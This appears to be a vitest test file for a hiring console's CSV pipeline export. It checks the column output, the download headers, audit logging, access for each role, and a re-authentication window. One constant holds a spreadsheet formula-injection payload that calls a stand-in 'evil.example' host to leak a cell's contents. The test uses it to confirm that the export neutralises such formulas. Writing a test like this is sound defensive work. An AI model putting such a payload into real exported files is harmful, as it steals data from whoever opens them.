import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { z } from 'zod'
import { accessMessages } from '../../src/contracts/console-access.ts'
import { pipelineExportColumns } from '../../src/contracts/pipeline.ts'
import { queryRows } from '../db/db.ts'
import { applyWithCv } from '../test-support/files.ts'
import { addTestStaff, signInBothSteps } from '../test-support/staff.ts'
import { startTestServer, type TestServer } from '../test-support/test-server.ts'

const password = 'a long enough password'
const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Open CV")'

describe("'Export CSV' on a job's pipeline (issue 43 item 6)", () => {
  let server: TestServer
  const cookies: Record<'recruiter' | 'admin' | 'finance', string> = { recruiter: '', admin: '', finance: '' }
  let jobId = 0
  const call = (route: string, cookie: string, method = 'POST', body: unknown = {}) =>
    fetch(`${server.url}/api/console/${route}`, {
      method,
      headers: { Cookie: cookie, 'Content-Type': 'application/json' },
      body: method === 'GET' ? undefined : JSON.stringify(body),
    })

  beforeAll(async () => {
    server = await startTestServer()
    for (const role of ['recruiter', 'admin', 'finance'] as const) {
      await addTestStaff(server.db, `${role}@arcnova.example`, password, role)
      cookies[role] = await signInBothSteps(server.db, `${server.url}/api`, `${role}@arcnova.example`, password)
    }
    const created = await call('jobs/', cookies.recruiter, 'POST', {
      job_name: 'Export Engineer',
      location: 'Pune, Maharashtra',
    })
    jobId = z.object({ id: z.number() }).parse(await created.json()).id
  }, 60_000)
  afterAll(() => server.cleanup())

  it('one RFC 4180 row per application with stage, source and last note; a formula is written as text; audited with its count', async () => {
    const id = await applyWithCv(server.url, {
      job: String(jobId),
      fullName: 'Asha Verma, Jr.',
      email: 'asha@example.com',
    })
    await applyWithCv(server.url, { job: String(jobId), fullName: 'Ravi Kumar', email: 'ravi@example.com' })
    expect((await call(`applications/${id}`, cookies.recruiter, 'PATCH', { stage: 'screening' })).status).toBe(200)
    expect(
      (await call(`applications/${id}/notes`, cookies.recruiter, 'POST', { body: 'First call went well.' })).status,
    ).toBe(201)
    expect((await call(`applications/${id}/notes`, cookies.recruiter, 'POST', { body: formula })).status).toBe(201)

    const response = await call(`pipeline/${jobId}/export`, cookies.recruiter)
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present')
    expect(response.headers.get('cache-control')).toBe('no-store')
    // Named after the job (issue 61 item 7).
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="Export Engineer - pipeline.csv"; filename*=UTF-8''Export%20Engineer%20%E2%80%93%20pipeline.csv`,
    )
    const text = await response.text()
    expect(text.split('\r\n').length).toBe(4)
    const rows: string[][] = parse(text, { bom: true })
    expect(rows[0]).toEqual([...pipelineExportColumns])
    const today = new Date(Date.now() + 330 * 60_000).toISOString().slice(0, 10)
    expect(rows[1]).toEqual([
      'Asha Verma, Jr.',
      'asha@example.com',
      '+91 90000 11111',
      'Screening',
      'Direct',
      today,
      `'${formula}`,
    ])
    expect(rows[2]).toEqual(['Ravi Kumar', 'ravi@example.com', '+91 90000 11111', 'New', 'Direct', today, ''])

    const audit = await queryRows(
      server.db,
      z.object({ subject: z.string(), detail: z.string() }),
      "SELECT subject, detail FROM audit_log WHERE action = 'pipeline.exported'",
    )
    expect(audit).toEqual([{ subject: 'Export Engineer', detail: '2 applications' }])
  })

  it('wants a code from the last 15 minutes; finance is refused; an unknown job is 404', async () => {
    expect((await call(`pipeline/${jobId}/export`, cookies.finance)).status).toBe(403)
    expect((await call(`pipeline/${jobId}/export`, cookies.finance)).headers.get('content-type')).toMatch(/json/)
    expect((await call('pipeline/999999/export', cookies.admin)).status).toBe(404)
    await server.db.query(
      `UPDATE staff_sessions SET second_step_at = now() - interval '16 minutes'
        WHERE staff_id = (SELECT id FROM staff WHERE email = 'admin@arcnova.example')`,
    )
    const stale = await call(`pipeline/${jobId}/export`, cookies.admin)
    expect(stale.status).toBe(403)
    expect(await stale.json()).toEqual({ detail: accessMessages.recentCodeNeeded, reauth: true })
  })
})
